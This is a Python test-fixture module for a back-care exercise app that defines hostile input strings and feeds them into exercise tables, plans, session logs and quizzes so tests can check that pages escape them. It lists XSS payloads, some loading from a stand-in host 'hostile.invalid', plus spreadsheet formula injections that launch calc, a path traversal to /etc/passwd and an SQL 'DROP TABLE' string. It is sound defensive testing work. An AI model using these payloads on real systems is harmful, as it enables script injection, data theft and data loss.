"""Words that mean a page harm, where a person or a table may bring them in, and how they are shown.

Kernels import this file too, so it needs nothing of the tests. `WORDS` are the words by kind;
`own_table`, `own_plan`, `own_poses`, `fill_log` and the others put them wherever text may come in;
`shown` says how a page shows a text. `harm_watch.py` sees whether any was run.
"""

from __future__ import annotations

import re
import sys
from collections.abc import Iterable, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pandas as pd

import backcare as bc
from backcare.tables.vocabulary import terms

# What every payload does when it runs: a mark on the page, another title, a word to the outside.
OUT = "//hostile.invalid"
RUN = "top.hacked=1;document.title=1"
_ZALGO = "".join(f"{letter}{chr(0x300 + place) * 25}" for place, letter in enumerate("back"))

RUNS = {  # markup that harms a page into which it is put as it is
    "script": f"<script>{RUN}</script>",
    "script from outside": f"<script src={OUT}/a.js></script>",
    "onerror": f"<img src=x onerror={RUN}>",
    "onload": f"<svg onload={RUN}>",
    "onfocus": f"<input autofocus onfocus={RUN}>",
    "ontoggle": f"<details open ontoggle={RUN}>",
    "onstart": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "after a quotation mark": f'"><img src=x onerror={RUN}>',
    "after an apostrophe": f"'><img src=x onerror={RUN}>",
    "in an attribute": f'" autofocus onfocus="{RUN}" x="',
    "in an attribute, apostrophe": f"' onmouseover='{RUN}' style='position:fixed;inset:0' x='",
    "out of a text area": f"</textarea><img src=x onerror={RUN}>",
    "out of a style": f"</style><img src=x onerror={RUN}>",
    "out of a script": f"</script><script>{RUN}</script>",
    "out of a comment": f"--><img src=x onerror={RUN}>",
    "out of a title": f"</title><img src=x onerror={RUN}>",
    "out of a template": f"</template></option></select><img src=x onerror={RUN}>",
    "a frame": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "a script's address in a link": f'<a href="javascript:{RUN}">read this</a>',
    "a script's address in a frame": f'<iframe src="javascript:{RUN}"></iframe>',
    "another base": f'"><base href="{OUT}/">',
    "a picture from outside": f"<img src={OUT}/a.png>",
    "a style from outside": f"<style>@import '{OUT}/a.css'; * {{background:url({OUT}/b)}}</style>",
    "a refresh": f'<meta http-equiv="refresh" content="0;url={OUT}/">',
}
PLAIN = {  # what other readers of text may stumble over
    "a script's address": f"javascript:{RUN}",
    "Markdown": f"[read](javascript:{RUN}) ![x]({OUT}/c.png) **bold** `code`",
    "a formula that is a link": rf"$\href{{javascript:{RUN}}}{{read this}}$",
    "a formula in a block": r"$$\frac{1}{2}$$ and \(x^2\) and \[y\]",
    "half a formula": "$x^$ and $\\frac{$",
    "one dollar": "5 $ for a ball, and _x_^2",
    "a template": "{{7*7}} {% for x in y %} {# no #} ${7*7} #{7*7}",
    "a format": "%s %d %(name)s {0} {name} %n \\n \\x41 $& $1",
    "an expression of CSS": f"expression({RUN}); url({OUT}/d.png); }} * {{ display: none }}",
    "entities": "&lt;script&gt; &amp; &#60;b&#62; &nbsp; a < b & c > d",
    "from right to left": "\u202egnp.exe\u202c and \u2067right\u2069",
    "from right to left, unclosed": "\u202e0 fo 01 niap",
    "signs that are not seen": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg",
    "a flood of accents": _ZALGO,
    "a word without an end": "w" * 2_000,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f9d8\U0001f3fd "
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "Arabic and Hebrew": "\u0638\u0647\u0631\u064a \u064a\u0624\u0644\u0645 9 \u05db\u05d0\u05d1",
    "Chinese": "\u80cc\u75db\u75ca\u6108",
    "lines and tabs": "one\ntwo\r\n\n\tthree   four\u2028five\u2029six",
    "control signs": "".join(map(chr, [*range(1, 9), 11, *range(14, 32), 127, 0x85, 0x9F])) + "end",
    "a formula of a spreadsheet": f'=HYPERLINK("http:{OUT}","read this")',
    "a command": "+cmd|' /C calc'!A0",
    "a function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "after a tab": '\t=WEBSERVICE("http://hostile.invalid")',
    "after a minus": "-1+1",
    "full width": "\uff1d1+1",
    "nothing": "NA",
    "null": "null",
    "undefined": "undefined",
    "proto": "__proto__",
    "constructor": "constructor",
    "toString": "toString",
    "a path": "../../etc/passwd",
    "a query": "'; DROP TABLE sessions; --",
}
WORDS = {**RUNS, **PLAIN}
# Such things show what they are called, and a harmless case of it: the number of the row.
COLUMNS = [
    *("name", "other_names", "dose_note", "feel", "why", "steps", "cues", "mistakes"),
    *("progression", "cautions", *(f"reason_{state}" for state in terms("pain_state"))),
]
SOURCES = [
    *("dose_source", "muscles_source", "instructions_source", "cautions_source"),
    *(f"source_{state}" for state in terms("pain_state")),
]
SEVERAL = {"other_names", "dose_note", "feel", "steps", "cues", "mistakes", "progression", "why"}
PATIENT = "patient"


def some(count: int) -> list[str]:
    """Give so many of the words, from all kinds: every other one harms where it is not escaped."""
    runs, plain = list(RUNS.values()), list(PLAIN.values())
    turns = [text for pair in zip(plain, runs, strict=False) for text in pair]
    rest = [text for text in WORDS.values() if text not in turns]
    # The word without an end, the link in a formula and a frame come with the first few.
    first = ["a word without an end", "a formula that is a link", "onerror", "lines and tabs"]
    first.append("signs that are not seen")
    ordered = dict.fromkeys([*(WORDS[kind] for kind in first), *turns, *rest])
    return list(ordered)[:count]


# --- where text comes in -------------------------------------------------------------------------


def marked(text: str, place: str) -> str:
    """Give a text of one place an end by which it can be told from that of another."""
    return f"{text}~{place}"


def own_table(texts: Sequence[str]) -> pd.DataFrame:
    """Make a clinician's own table, an exercise for each text, which stands in all its cells."""
    shipped = bc.load_exercises()
    tried = shipped[(shipped["advice"] == "try") & (shipped["kind"] == "exercise")]
    rows = []
    for place, text in enumerate(texts):
        row = tried.iloc[place % len(tried)].copy()
        # Some keep the pictures of a shipped one; the first is called as what every object has.
        row["exercise_id"] = tried.index[place] if place < len(tried) else f"own_{place}"
        row["exercise_id"] = row["exercise_id"] if place else "constructor"
        row[COLUMNS] = [marked(text, column) for column in COLUMNS]
        row[SOURCES] = text.replace("|", " ")
        row["swap"], row["swap_source"] = "", ""
        # With a lasting pain each may be done, with a light one it is asked about, with a new one
        # it is left out.
        row[["rating_chronic", "rating_mild", "rating_acute"]] = ["ok", "ask", "avoid"]
        rows.append(row)
    return pd.DataFrame(rows).set_index("exercise_id")


def of_cell(text: str, column: str) -> list[str]:
    """Say what a page shows of a cell: each of its parts, where it may have several."""
    whole = marked(text, column)
    parts = whole.split("|") if column in {*SEVERAL, "cautions"} else [whole]
    return [part.strip() for part in parts if part.strip()]


def own_plan(table: pd.DataFrame, texts: Sequence[str]) -> pd.DataFrame:
    """Make a plan of all exercises of a table, as somebody has edited it: its texts are theirs."""
    plan = bc.check_plan(
        pd.DataFrame({"exercise_id": table.index, "pain_state": "chronic", "reps": 1}), table
    )
    columns = ["caution", "why"]
    for column in columns:
        plan[column] = [marked(text, f"plan {column}") for text in texts]
    return bc.check_plan(plan, table)


def own_poses(texts: Iterable[str]) -> pd.DataFrame:
    """Make poses of one's own, whose captions are the texts."""
    shipped = bc.load_poses()
    start = shipped[(shipped["exercise_id"] == "bird_dog") & (shipped["order"] == 1)]
    made = []
    for place, text in enumerate(texts):
        names = {"exercise_id": f"own_{place}", "keyframe": text, "source": text}
        made.append(start.assign(order=1, caption=marked(text, "one"), **names))
        made.append(
            start.assign(
                order=2, caption=marked(text, "two"), **{**names, "keyframe": f"{text} 2"},
                pelvis=150, low_back=170, upper_back=195, neck=215, head=235,
            )
        )  # fmt: skip
    return pd.concat(made, ignore_index=True)


def fill_log(
    log: bc.SessionLog, texts: Sequence[str], exercises: pd.DataFrame, *, patient: str = PATIENT
) -> None:
    """Write the texts into a log as notes and ids of sessions, a day each, and as goals."""
    start = datetime.now(UTC).replace(microsecond=0) - timedelta(days=len(texts))
    for place, text in enumerate(texts):
        exercise = str(exercises.index[place % len(exercises)])
        log.add(
            bc.Session(
                start + timedelta(days=place), pain_before=2, pain_after=1, note=text,
                entries=[bc.Entry(exercise, sets=1, reps=3)],
                session_id=f"{text[:80]} {place}", patient=patient,
            )
        )  # fmt: skip
        named = re.sub(r"[:;]|\d+\s*$", " ", text)[:80].strip()
        day = (start + timedelta(days=place)).date()
        log.add_measure(day, "psfs", 4, patient=patient, note=f"{named} go: 4; {named} sit: 5")


def goal_of(text: str) -> str:
    """Say what a goal is called that was made of a text."""
    return re.sub(r"[:;]|\d+\s*$", " ", text)[:80].strip() + " go"


def group_frame(texts: Sequence[str]) -> pd.DataFrame:
    """Make the log of a group whose patients, exercises and notes are the texts."""
    days = ["2025-05-05", "2025-05-12", "2025-06-30", "2025-07-06"]
    rows = [
        {
            "session_id": f"{day} {text[:50]}",
            "patient": text[:100],
            "note": text,
            "started_at": pd.Timestamp(f"{day} 18:00"),
            "exercise_id": text[:100],
            **dict.fromkeys(("pain_before", "pain_after"), 2 + place),
            "sets": 1,
            "reps": 3,
            "pain_peak": 6,
            "pain_minutes": 20,
            "utc_offset_min": 0,
        }
        for text in texts
        for place, day in enumerate(days)
    ]
    from backcare.sessions import log_frame

    return log_frame(rows)


def quizzes(texts: Iterable[str]) -> list[bc.Quiz]:
    """Ask a question for each text, in which it stands everywhere."""
    return [
        bc.Quiz(
            marked(text, "question"), [marked(text, "no"), marked(text, "yes")],
            answer=marked(text, "yes"), because=marked(text, "because"),
        )
        for text in texts
    ]  # fmt: skip


def page_of(widget: Any) -> str:
    """Give what a viewer with no kernel shows of a widget."""
    bundle = widget._repr_mimebundle_()
    return str((bundle[0] if isinstance(bundle, tuple) else bundle)["text/html"])


def in_kernel(folder: Path, count: int) -> str:
    """Write the first cell of a notebook: all that the others show."""
    return (
        f"import os, sys\nsys.path.insert(0, {str(Path(__file__).parent)!r})\n"
        f"import backcare as bc, hostile_words as hw\n"
        f"texts = hw.some({count})\ntable = hw.own_table(texts)\n"
        f"log = bc.SessionLog({str(folder / 'log.db')!r}, exercises=table)"
    )


# --- how a page shows it, and what it must not do ------------------------------------------------


def shown(text: str) -> str:
    """Put the blanks of a text together, as HTML does; lists of ipywidgets have hard ones."""
    return " ".join(re.split(r"[ \t\n\r\f\xa0]+", text)).strip()


def missing(seen: str, wanted: Iterable[str]) -> list[str]:
    """Say which texts a page does not show as they were typed."""
    seen = shown(seen)
    return [text for text in wanted if shown(text) not in seen]


if __name__ == "__main__":
    sys.exit("This file holds words for tests; it does nothing by itself.")
